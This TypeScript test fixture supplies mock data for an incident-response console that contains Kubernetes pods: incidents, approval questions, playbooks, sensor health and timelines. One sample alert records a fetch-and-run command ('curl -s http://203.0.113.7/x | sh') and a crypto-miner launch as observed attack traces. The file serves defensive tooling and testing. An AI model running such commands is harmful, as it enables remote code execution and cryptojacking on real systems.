import { defaultGuardrails } from '../../../core/action/guardrail.ts';
import { defaultResponse } from '../../../core/assessment/policy.ts';
import type {
  AlertSample,
  ConsoleCoverage,
  ConsoleOverview,
  ConsolePeople,
  ConsoleQuestion,
  ConsoleSession,
  ListedIncident,
  PlaybookDrawing,
  ShownIncident,
  ShownRecords,
  ShownStep,
} from '../../../core/console/console.schema.ts';
import type { ConsoleExplained, ConsoleResponse, ConsoleWouldHave } from '../../../core/console/response.schema.ts';
import type { ControlState } from '../../../core/decide/control.ts';
import { describedPlaybooks } from '../../../service/config/described-playbooks.ts';
import type { Config } from '../../../service/config/load.ts';
import { ConsoleResponses } from '../../../service/desk/console/response.ts';
import type { Answers } from './stand-in.ts';

/** Incidents as the API returns them, at times close to the reader's. */

const sha = (letter: string): string => letter.repeat(64);
export const at = (minutes: number): string => new Date(Date.now() + minutes * 60_000).toISOString();
const pod = 'pod/shop/cart-7d9c5b6f4-x2x8k';

export const session: ConsoleSession = {
  person: { id: 'ada', name: 'Ada Byron' },
  roles: ['admin'],
  namespaces: null,
  csrf: 'csrf-of-ada',
  endsAt: at(480),
  wall: false,
  idleMinutes: 30,
  cluster: 'prod-1',
  version: '0.1.0',
};

export function listed(number: number, changes: Partial<ListedIncident> = {}): ListedIncident {
  const { title = `deployment/shop/cart-${number}` } = changes;
  return {
    key: String(number).padStart(32, '0'),
    revision: 1,
    id: `incident/prod-1/shop/Deployment/cart-${number}`,
    run: `run-${number}`,
    title,
    what: `Shell bash opened in ${title.split('/').slice(1).join('/')}`,
    cluster: 'prod-1',
    namespace: 'shop',
    kind: 'workload',
    severity: 'medium',
    state: 'open',
    reached: 'detected',
    verdict: 'unknown',
    openedAt: at(-12 - number),
    changedAt: at(-1),
    closedAt: null,
    alerts: 2,
    rules: ['Terminal shell in container'],
    pods: [pod],
    playbooks: ['ask-about-shell'],
    openQuestions: 0,
    contained: 0,
    isProven: false,
    ...changes,
  };
}

export const cart = listed(1, {
  id: 'incident/prod-1/shop/Deployment/cart',
  title: 'deployment/shop/cart',
  severity: 'critical',
  reached: 'contained',
  openedAt: at(-3),
  alerts: 3,
  rules: ['Drop and execute new binary in container', 'Outbound connection to C2 servers'],
  playbooks: ['contain-dropped-binary'],
  openQuestions: 1,
  contained: 1,
});

export const incidents: readonly ListedIncident[] = [
  cart,
  listed(2, { title: 'deployment/shop/web', rules: ['Terminal shell in container'], severity: 'low', openQuestions: 1 }),
  listed(3, {
    title: 'node/worker-7',
    kind: 'node',
    namespace: null,
    severity: 'high',
    rules: ['Linux kernel module injection detected'],
    alerts: 1,
  }),
  listed(4, {
    title: 'statefulset/pay/ledger',
    namespace: 'pay',
    severity: 'high',
    reached: 'eradicated',
    rules: ['Read sensitive file untrusted'],
    alerts: 41,
  }),
  listed(5, { title: 'cronjob/batch/report', namespace: 'batch', severity: 'info', openedAt: at(-60 * 26) }),
];

export const question: ConsoleQuestion = {
  id: `b_${'q'.repeat(24)}`,
  kind: 'question',
  incident: { key: cart.key, title: 'deployment/shop/cart', severity: 'critical', cluster: 'prod-1', namespace: 'shop' },
  text: 'Is the new binary in cart-7d9c5b6f4-x2x8k expected?',
  digest: sha('d'),
  state: 'open',
  outcome: null,
  happened: ['User root ran kdevtmpfsi in cart-…x2x8k', '3 alerts, image signed'],
  contained: [
    { text: 'Pod cart-7d9c5b6f4-x2x8k quarantined', sure: 'proven by test', since: at(-3), until: at(237), detail: null },
  ],
  evidence: [
    { name: 'pod.yaml', sha256: sha('a'), bytes: 4210 },
    { name: 'logs/cart.txt', sha256: sha('b'), bytes: 120_400 },
  ],
  left: '2 of 3 pods ready',
  choices: [
    {
      id: 'release',
      label: 'Yes: release pod',
      quorum: 2,
      votes: 1,
      destructive: false,
      weakens: true,
      needsReason: true,
      target: null,
      form: {},
      changes: [`${pod}: the quarantine label is removed`],
      blastRadius: [pod],
      notes: [],
    },
    {
      id: 'remove',
      label: 'No: rotate secrets and delete pod',
      quorum: 1,
      votes: 0,
      destructive: true,
      weakens: false,
      needsReason: true,
      target: 'cart-7d9c5b6f4-x2x8k',
      form: {},
      changes: [`${pod}: deleted; its Deployment starts another one`, 'secret/shop/cart-db: rotated'],
      blastRadius: [pod, 'secret/shop/cart-db', 'deployment/shop/cart'],
      notes: ['The new pod reads the new password.'],
    },
  ],
  votes: [{ person: 'Grace Hopper', choice: 'release', at: at(-1), reason: 'Our own migration job' }],
  level: { group: 'oncall', until: at(12), next: 'leads', people: ['Ada Byron', 'Grace Hopper'] },
  deadline: at(72),
  onSilence: 'The pod stays quarantined. Nothing is deleted.',
  live: true,
  mine: { may: true, why: null, said: null },
};

const otherQuestion: ConsoleQuestion = {
  ...question,
  id: `b_${'r'.repeat(24)}`,
  incident: { ...question.incident, key: listed(2).key, title: 'deployment/shop/web', severity: 'low' },
  text: 'Is the shell in web-856c7d8f9-8qgc4 yours, or expected?',
  happened: ['User root ran bash in web-…8qgc4'],
  contained: [],
  evidence: [],
  left: null,
  choices: [
    {
      id: 'expected',
      label: 'Yes, expected',
      quorum: 1,
      votes: 0,
      destructive: false,
      weakens: true,
      needsReason: true,
      target: null,
      form: {},
      changes: ['The incident is marked as harmless.'],
      blastRadius: [],
      notes: [],
    },
    {
      id: 'quarantine',
      label: 'No: quarantine pod',
      quorum: 1,
      votes: 0,
      destructive: false,
      weakens: false,
      needsReason: false,
      target: null,
      form: {},
      changes: ['pod/shop/web-856c7d8f9-8qgc4: quarantine label added'],
      blastRadius: ['pod/shop/web-856c7d8f9-8qgc4'],
      notes: [],
    },
  ],
  onSilence: 'Nothing is done to the pod.',
  votes: [],
  level: { group: 'platform', until: at(25), next: null, people: ['Linus Pauling'] },
  mine: { may: false, why: 'You are not in the group platform.', said: null },
};

const step = (changes: Partial<ShownStep>): ShownStep => ({
  key: 'step-1',
  playbook: 'contain-dropped-binary',
  action: 'quarantinePod',
  title: 'Quarantine the pod',
  target: pod,
  effect: 'reversible',
  state: 'verified',
  detail: 'a connection from outside was refused',
  startedAt: at(-3),
  endedAt: at(-3),
  proof: [{ at: at(-3), state: 'verified', detail: 'a connection from outside was refused' }],
  changes: [{ target: pod, what: 'quarantine label added' }],
  ...changes,
});

const sample: AlertSample = {
  id: 'alert-1',
  at: at(-3),
  rule: 'Drop and execute new binary in container',
  severity: 'critical',
  title: 'kdevtmpfsi ran',
  sensor: 'falco',
  node: 'worker-7',
  pod: 'shop/cart-7d9c5b6f4-x2x8k',
  container: 'cart',
  image: 'registry.example.com/shop/cart:1.4.2',
  processes: [
    { name: 'nginx', exe: '/usr/sbin/nginx', commandLine: 'nginx: worker process', user: 'www-data', pid: 41 },
    { name: 'sh', exe: '/bin/sh', commandLine: 'sh -c "curl -s http://203.0.113.7/x | sh"', user: 'root', pid: 812 },
    {
      name: 'kdevtmpfsi',
      exe: '/tmp/.x/kdevtmpfsi',
      commandLine: '/tmp/.x/kdevtmpfsi -o pool.example.net:3333',
      user: 'root',
      pid: 815,
    },
  ],
  request: null,
  doubt: null,
  novelty: 'This program has not run in cart before.',
  mitre: ['TA0003', 'T1496'],
};

const person = (name: string) => ({ kind: 'person', name }) as const;
const engine = { kind: 'engine', name: 'engine' } as const;
const playbook = { kind: 'playbook', name: 'contain-dropped-binary' } as const;
const entry = (number: number, kind: string, text: string, changes: Partial<ShownIncident['timeline'][number]> = {}) => ({
  number,
  at: at(-3 + number / 10),
  kind,
  actor: engine,
  text,
  action: null,
  target: null,
  ...changes,
});

export const shownIncident: ShownIncident = {
  incident: cart,
  live: true,
  verdictWhy: null,
  timeline: [
    entry(1, 'incident.opened', '1 × Drop and execute new binary in container', { actor: { kind: 'sensor', name: 'falco' } }),
    entry(2, 'playbook.started', 'Contain a pod that ran a binary that is not in its image', { actor: playbook }),
    entry(3, 'step.applied', `Quarantine the pod: ${pod}`, { actor: playbook, action: 'quarantinePod', target: pod }),
    entry(4, 'step.checked', `quarantinePod on ${pod}: verified (a connection from outside was refused)`, {
      action: 'quarantinePod',
      target: pod,
    }),
    entry(5, 'alert.joined', '2 × Outbound connection to C2 servers', { actor: { kind: 'sensor', name: 'falco' } }),
    entry(6, 'step.failed', `snapshotMemory on ${pod}: the node has no room for it`, { action: 'snapshotMemory', target: pod }),
    entry(7, 'question.asked', question.text),
    entry(8, 'vote.accepted', 'Yes: release pod: “Our own migration job”', { actor: person('Grace Hopper') }),
  ],
  steps: [
    step({}),
    step({
      key: 'step-2',
      action: 'snapshotPodState',
      title: 'Keep the state of the pod',
      detail: '2 files',
      proof: [],
      changes: [],
    }),
    step({
      key: 'step-3',
      action: 'snapshotMemory',
      title: 'Keep the memory of the pod',
      state: 'failed',
      detail: 'the node has no room for it',
      proof: [],
      changes: [],
    }),
    step({
      key: 'step-4',
      action: 'openTicket',
      title: 'Open a ticket',
      target: 'ticket/incident/Drop and execute new binary in shop/cart',
      effect: 'read',
      state: 'skipped',
      detail: 'skipped: no ticket system is configured',
      proof: [],
      changes: [],
    }),
  ],
  leases: [
    {
      id: 'lease-1',
      action: 'quarantinePod',
      title: 'Quarantine the pod',
      target: pod,
      state: 'active',
      sure: 'not proven yet',
      isProven: false,
      startedAt: at(-3),
      until: at(237),
      renewals: 0,
      refused: null,
      onSilence: 'It is renewed, and the next level is asked.',
      question: `b_${'l'.repeat(24)}`,
    },
  ],
  alerts: [
    { rule: sample.rule, severity: 'critical', pod: sample.pod, count: 1, firstSeen: at(-3), lastSeen: at(-3) },
    {
      rule: 'Outbound connection to C2 servers',
      severity: 'high',
      pod: sample.pod,
      count: 2,
      firstSeen: at(-3),
      lastSeen: at(-2),
    },
  ],
  assessments: [
    {
      rule: sample.rule,
      severity: 'critical',
      pod: sample.pod,
      response: 'contain',
      pages: false,
      mode: 'contain',
      profile: 'balanced',
      scope: 'scope shops',
      wouldHave: null,
      reasons: [
        'critical; the rule is sure: images do not change at run time',
        'new, compared with shop/cart and its 11 peers',
        'second act within 5 minutes: a shell, then a new binary',
      ],
    },
  ],
  samples: [sample],
  blastRadius: {
    workload: 'deployment/shop/cart',
    ready: 2,
    pods: 3,
    at: at(-1),
    objects: [
      { name: pod, kind: 'Pod', state: 'cut', by: ['Quarantine the pod'] },
      { name: 'secret/shop/cart-db', kind: 'Secret', state: 'planned', by: ['Rotate the secret'] },
      { name: 'service/shop/cart', kind: 'Service', state: 'reaches', by: [] },
      { name: 'deployment/shop/checkout', kind: 'Deployment', state: 'reaches', by: [] },
    ],
  },
  deadlines: [
    'NIS2 early warning: sent 2026-11-26T20:10:00.000Z by Ada Byron, reference CSIRT-4711',
    'NIS2 incident notification: due 2026-11-29T09:12:00.000Z (known since 2026-11-26T09:12:00.000Z, by Ada Byron)',
  ],
  posture: [
    'pod/shop/cart-7d9c5b6f4-x2x8k meets the Pod Security profile “baseline”: it may run as root, may gain privileges.',
    'May gain privileges (app): not restricted, CIS 5.2.6.',
    'May run as root (app): not restricted, CIS 5.2.7.',
    'The service account shop/cart may read the Secrets of its namespace, and the pod has its token.',
  ],
  evidence: [
    {
      manifest: sha('e'),
      target: pod,
      artefacts: [
        { name: 'pod.yaml', sha256: sha('a'), bytes: 4210, partial: null },
        { name: 'logs/cart.txt', sha256: sha('b'), bytes: 120_400, partial: 'the last 5 000 lines' },
      ],
      command: `firebreak evidence get ${sha('e').slice(0, 12)} --reason "…"`,
    },
  ],
  questions: [question],
  pastQuestions: [
    {
      number: 6,
      kind: 'lease',
      text: `Pod ${pod} is quarantined. Extend it, keep it or release it?`,
      state: 'decided',
      askedAt: at(-3),
      endedAt: at(-2),
      choice: 'Extend it',
      by: ['Grace Hopper'],
      why: null,
      answers: [{ person: 'Grace Hopper', choice: 'Extend it', at: at(-2), reason: 'Still looking' }],
    },
    {
      number: 5,
      kind: 'question',
      text: 'Is the memory of the pod needed?',
      state: 'void',
      askedAt: at(-3),
      endedAt: at(-2),
      choice: null,
      by: [],
      why: 'the node has no room for it',
      answers: [],
    },
  ],
  tickets: [],
  thread: 'https://acme.slack.example/archives/C0SECURITY/p1',
  temporal: 'https://temporal.example/namespaces/default/workflows/w',
  proof: { whole: true, findings: [], stored: 8, leftOut: 0, head: sha('f') },
};

export const records: ShownRecords = {
  proof: shownIncident.proof,
  records: shownIncident.timeline.map(({ number, at: when, kind }) => ({
    number,
    at: when,
    kind,
    actor: 'engine',
    body: { text: 'as recorded' },
    keyId: 'cell-prod-1',
    signature: 'c2lnbmF0dXJl',
    previous: sha(String(number - 1)),
    hash: sha(String(number)),
  })),
};

export const overview: ConsoleOverview = {
  at: at(0),
  days: 30,
  reckoned: { incidents: 3_000, of: 4_218 },
  clusters: [
    { name: 'prod-1', open: 5, critical: 1, contained: 1, lastAlertAt: at(-2), answers: true },
    { name: 'prod-2', open: 0, critical: 0, contained: 0, lastAlertAt: null, answers: false },
  ],
  sensors: [
    {
      cluster: 'prod-1',
      name: 'falco',
      alerts: 1_204,
      lastAlertAt: at(-2),
      health: {
        heardAt: at(-1),
        drops: 3,
        droppedAt: at(-12),
        lacks: [],
        watched: {
          nodes: 12,
          silent: 2,
          longest: [
            { node: 'node-7', since: at(-14) },
            { node: 'node-9', since: at(-6) },
          ],
        },
      },
    },
    {
      cluster: 'prod-1',
      name: 'kubernetes-audit',
      alerts: 31,
      lastAlertAt: at(-90),
      health: {
        heardAt: at(-1),
        drops: 0,
        droppedAt: null,
        lacks: ['the content of configmaps, at level Metadata'],
        watched: null,
      },
    },
    {
      cluster: 'prod-1',
      name: 'tetragon',
      alerts: 87,
      lastAlertAt: at(-44),
      health: { heardAt: at(-1), drops: 0, droppedAt: null, lacks: [], watched: { nodes: 12, silent: 0, longest: [] } },
    },
    { cluster: 'prod-2', name: 'falco', alerts: 4, lastAlertAt: at(-2_000), health: null },
  ],
  intakes: [
    {
      ...{ cluster: 'prod-1', source: 'firebreak-cell-0/3f2a9c1e', at: at(-2), since: at(-60 * 26), isAway: false },
      ...{ accepted: 1_822, duplicates: 64 },
      refused: [
        { reason: 'rate_limit', count: 118 },
        { reason: 'unreadable', count: 2 },
      ],
      unauthorized: [],
    },
    {
      ...{ cluster: 'prod-2', source: 'firebreak-cell-0/77b01d52', at: at(-40), since: at(-60 * 200), isAway: true },
      ...{ accepted: 4, duplicates: 0, refused: [], unauthorized: [] },
    },
  ],
  containments: [
    { incident: cart.key, title: 'deployment/shop/cart', namespace: 'shop', severity: 'critical', contained: 1, since: at(-3) },
  ],
  guardrails: {
    protectedNamespaces: ['kube-system', 'firebreak'],
    restraints: [
      {
        id: 'r-1',
        cluster: 'prod-1',
        mode: 'freeze',
        scope: { kind: 'namespace', name: 'pay' },
        title: 'Nothing automatic in pay',
        owner: 'Grace Hopper',
        reason: 'Migration of the ledger',
        until: at(90),
      },
    ],
  },
  suppressions: [
    {
      id: 's-1',
      cluster: 'prod-1',
      title: 'Terminal shell in container, in batch/report',
      rule: 'Terminal shell in container',
      workload: 'batch/CronJob/report',
      owner: 'Ada Byron',
      reason: 'Known job, will be rewritten',
      upTo: 'low',
      until: at(60 * 24 * 6),
      hidden: 12,
    },
  ],
  playbooks: [
    {
      id: 'firebreak/contain-dropped-binary',
      title: 'Contain a pod that ran a binary that is not in its image',
      enabled: true,
      rules: ['Drop and execute new binary in container'],
      runs: 14,
      verdicts: { true_positive: 3, suspicious: 1, benign: 9, unknown: 1 },
      toContain: { p50: 0.3, p90: 1.1 },
      toDecide: { p50: 140, p90: 610 },
    },
    {
      id: 'firebreak/ask-about-shell',
      title: 'Ask who opened a shell',
      enabled: true,
      rules: ['Terminal shell in container'],
      runs: 61,
      verdicts: { true_positive: 0, suspicious: 2, benign: 55, unknown: 4 },
      toContain: null,
      toDecide: { p50: 220, p90: 900 },
    },
  ],
  times: { toContain: { p50: 0.3, p90: 1.2 }, toDecide: { p50: 190, p90: 840 } },
  history: Array.from({ length: 30 }, (_, index) => ({
    day: at((index - 29) * 24 * 60).slice(0, 10),
    incidents: [2, 0, 5, 3, 1, 4, 7][index % 7] ?? 0,
    questions: [1, 0, 3, 2, 1, 2, 4][index % 7] ?? 0,
    toContain: index % 7 === 1 ? null : 0.3 + (index % 5) / 10,
    toDecide: index % 7 === 1 ? null : 150 + (index % 6) * 60,
  })),
  questions: { asked: 75, decided: 66, expired: 7, open: 2, quickApprovals: 3 },
};

/** As `firebreak playbooks list --json` returns them. */
export const playbooks = { items: [...describedPlaybooks(undefined, Date.now())] };

export const playbooksOfPack = {
  items: playbooks.items.slice(0, 1).map((one) => ({ ...one, id: 'acme/miner', title: 'Stop a miner' })),
};

/** A playbook of a pack, as the desk draws it. */
export const drawing: PlaybookDrawing = {
  alert: 'Detect crypto miners (critical)',
  width: 470,
  height: 344,
  boxes: [
    { kind: 'alert', x: 140, y: 30, width: 190, height: 36, lines: ['alert'] },
    { kind: 'question', x: 140, y: 126, width: 190, height: 36, lines: ['Is <b>it</b> ours?'] },
    { kind: 'end', x: 30, y: 222, width: 190, height: 36, lines: ['harmless'] },
    { kind: 'end', x: 250, y: 222, width: 190, height: 36, lines: ['nobody has answered'] },
  ],
  ways: [
    { from: 0, to: 1, path: 'M235 66V66C235 86 235 106 235 126', label: null },
    {
      ...{ from: 1, to: 2, path: 'M235 162V162C235 182 125 202 125 222' },
      label: { x: 170, y: 184, width: 20, height: 16, lines: ['yes'] },
    },
    {
      ...{ from: 1, to: 3, path: 'M235 162V162C235 182 345 202 345 222' },
      label: { x: 242, y: 184, width: 95, height: 16, lines: ['nobody answers'] },
    },
  ],
};

export const coverage: ConsoleCoverage = {
  sets: [
    {
      title: 'Falco, system calls',
      from: 'falcosecurity/rules',
      version: 'c72713e',
      rules: 93,
      answered: 93,
      partly: 0,
      rest: 0,
      none: 0,
    },
    {
      title: 'Tracee, signatures',
      from: 'aquasecurity/tracee',
      version: '7c9ec97',
      rules: 34,
      answered: 33,
      partly: 0,
      rest: 0,
      none: 1,
    },
  ],
  unanswered: [{ rule: 'Anti-Debugging detected', set: 'Tracee, signatures', severity: 'low' }],
  playbooks: [{ id: 'firebreak/contain-dropped-binary', rules: 2 }],
  rules: [
    {
      rule: 'Drop and execute new binary in container',
      set: 'Falco, system calls',
      severity: 'critical',
      mitre: ['TA0003'],
      places: [],
    },
    {
      rule: 'Fileless execution via memfd_create',
      set: 'Falco, system calls',
      severity: 'critical',
      mitre: ['TA0005', 'T1620'],
      places: ['pod'],
    },
  ],
};

export const people: ConsolePeople = {
  since: at(-60 * 24 * 30),
  people: [
    { person: 'ada', name: 'Ada Byron', questions: 48, answers: 41, quickApprovals: 1, shifts: 12, perShift: 4, mostInAShift: 9 },
    {
      person: 'grace',
      name: 'Grace Hopper',
      questions: 27,
      answers: 25,
      quickApprovals: 2,
      shifts: 10,
      perShift: 2.7,
      mostInAShift: 6,
    },
  ],
};

/** What the API returns to somebody with all roles. */
export const response: ConsoleResponse = {
  ...{ cluster: 'prod-1', mode: 'observe', profile: 'balanced', onSilence: 'nothing', hidden: 0 },
  scopes: [
    {
      ...{ place: 1, name: 'shops', asks: 'namespace shop-*, shop', mode: 'contain', profile: 'balanced' },
      ...{ onSilence: 'nothing', onlyStronger: false },
    },
    {
      ...{ place: 2, name: null, asks: 'namespace label tier=payment', mode: 'ask', profile: 'strict' },
      ...{ onSilence: 'contain', onlyStronger: false },
    },
  ],
  protectedNamespaces: ['kube-system', 'kube-public', 'kube-node-lease', 'firebreak'],
};

/** By the engine itself, for the namespace `pay`. */
export const explained: ConsoleExplained = await new ConsoleResponses({
  config: {
    ...{ cluster: 'prod-1', playbooks: { enabled: 'all', params: {} }, packs: [], sensors: {}, releases: { packs: {} } },
    guardrails: { ...defaultGuardrails, capWindowMinutes: 60 },
    kubernetes: { ownNamespace: 'firebreak' },
    response: { ...defaultResponse, mode: 'observe', scopes: [{ name: 'payments', namespaces: ['pay'], mode: 'ask' }] },
  } as unknown as Config,
  store: {} as never,
  trust: {} as never,
  control: async () => ({ decisions: [] }) as unknown as ControlState,
}).explained({ namespace: 'pay', rule: 'Drop and execute new binary in container' }, 'all');

export const wouldHave: ConsoleWouldHave = {
  ...{ since: at(-7 * 1_440), until: at(0), further: 0, leftOut: 0 },
  rows: [
    {
      ...{ cluster: 'prod-1', namespace: 'pay', mode: 'ask', scope: 'scope payments', contain: 4, right: 4, wrong: 0, open: 0 },
      ...{ heldBack: 0, ask: 6, pages: 2, advice: { next: 'contain', why: '4 of 4 judged right, none wrong' } },
    },
    {
      ...{ cluster: 'prod-1', namespace: 'batch', mode: 'observe', scope: 'no scope matches', contain: 1, right: 0, wrong: 0 },
      ...{ open: 1, heldBack: 1, ask: 38, pages: 11 },
      advice: { next: null, why: '19 questions on the busiest day: silence what is noisy first (firebreak tune)' },
    },
  ],
  decisions: [
    {
      ...{ at: at(-95), incident: cart.key, namespace: 'pay', pod: 'ledger-0', rule: 'Drop and execute new binary in container' },
      ...{ would: 'contain', judged: 'right' },
      reasons: [
        'critical; the rule is likely: a binary that is not part of the image has run',
        'new, compared with pay/ledger and other pods of registry.example/ledger',
        'second act within 5 minutes: Terminal shell in container, then Drop and execute new binary in container',
      ],
    },
    {
      ...{
        at: at(-2_000),
        incident: null,
        namespace: 'batch',
        pod: 'report-28999-x7k2p',
        rule: 'Detect release_agent File Container Escapes',
      },
      ...{ would: 'held back', judged: 'open' },
      reasons: ['no playbook that answers may contain it', 'critical; the rule is sure: nothing but an escape writes this file'],
    },
  ],
  snippet: [
    'response:',
    '  scopes:   # before your other scopes: the first that matches holds',
    "    - { name: ready-to-contain-prod-1, clusters: ['prod-1'], namespaces: ['pay'], mode: contain }",
  ].join('\n'),
};

export const answers = (): Answers => ({
  session,
  incidents: { items: [...incidents], next: null },
  incident: shownIncident,
  records,
  questions: { items: [question, otherQuestion] },
  question,
  overview,
  playbooks,
  coverage,
  people,
  response,
  explain: explained,
  wouldHave,
});
